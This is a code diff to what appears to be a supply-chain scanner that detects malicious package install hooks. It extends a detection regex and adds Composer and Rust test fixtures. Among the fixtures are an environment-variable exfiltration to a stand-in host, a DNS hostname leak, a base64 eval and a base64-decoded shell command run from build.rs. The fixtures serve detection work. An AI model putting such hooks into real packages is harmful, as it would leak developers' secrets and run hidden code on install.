@@ -5,7 +5,7 @@ import { dangerOf } from '../../knowledge/shell-danger.ts';
 import { RELEASE_HOSTS } from '../../knowledge/shady-hosts.ts';
 
 /** A program written into the hook itself. */
-const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl)\s{1,3}-(?:e|c)\s{1,3}["'][^\n]{60,}/;
+const INLINE_PROGRAM = /\b(?:node|python3?|ruby|perl|@?php)\s{1,3}-(?:e|c|r)\s{1,3}\\?["'][^\n]{60,}/;
 /**
  * What an honest one needs: its own files, the answer to whether this is a machine of developers, and a tool that is
  * started by its bare name and could stand in the hook itself.
@@ -51,6 +51,18 @@ export const check: RepositoryCheck = {
         'setup.js': "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) });\n",
       },
       { 'package.json': '{"scripts": {«"preinstall": "curl http://names.example.net/i"»}}' },
+      {
+        'composer.json': `{"scripts": {"post-autoload-dump": «"@php -r \\"eval(base64_decode('cHJpbnQoMSk7'));\\""»}}`,
+      },
+      {
+        'Cargo.toml': '«[package]»\nname = "names"\nversion = "1.0.0"\n',
+        'build.rs': `
+          use std::process::Command;
+          fn main() {
+              let line = STANDARD.decode("bHMgLWxhIC90bXA=").unwrap();
+              Command::new("sh").arg("-c").arg(line).spawn();
+          }`,
+      },
       { 'package.json': '{"scripts": {«"preinstall": "nslookup `hostname`.names.example.net"»}}' },
       {
         'package.json': '{"scripts": {«"preinstall": "node update.js &"»}}',
@@ -65,6 +77,16 @@ export const check: RepositoryCheck = {
         'package.json': `{"scripts": {"prepare": "node -e \\"if (process.env.NODE_ENV !== 'production') require('child_process').execSync('husky', { stdio: 'inherit' })\\""}}`,
       },
       { 'package.json': '{"scripts": {"postinstall": "node-gyp rebuild"}}' },
+      { 'composer.json': '{"scripts": {"post-autoload-dump": ["@php artisan package:discover --ansi"]}}' },
+      {
+        'Cargo.toml': '[package]\nname = "names"\nversion = "1.0.0"\n',
+        'build.rs': `
+          use std::process::Command;
+          fn main() {
+              Command::new("git").args(["rev-parse", "HEAD"]).output();
+              Command::new("protoc").arg("--version").status();
+          }`,
+      },
       { 'package.json': '{"scripts": {"postinstall": "curl -o data.json https://data.example.net/1.json"}}' },
       {
         'package.json': `{"scripts": {"prepare": "node -e \\"if (!process.env.RELEASING) { console.error('Releases are made by the workflow.'); process.exit(1); }\\""}}`,
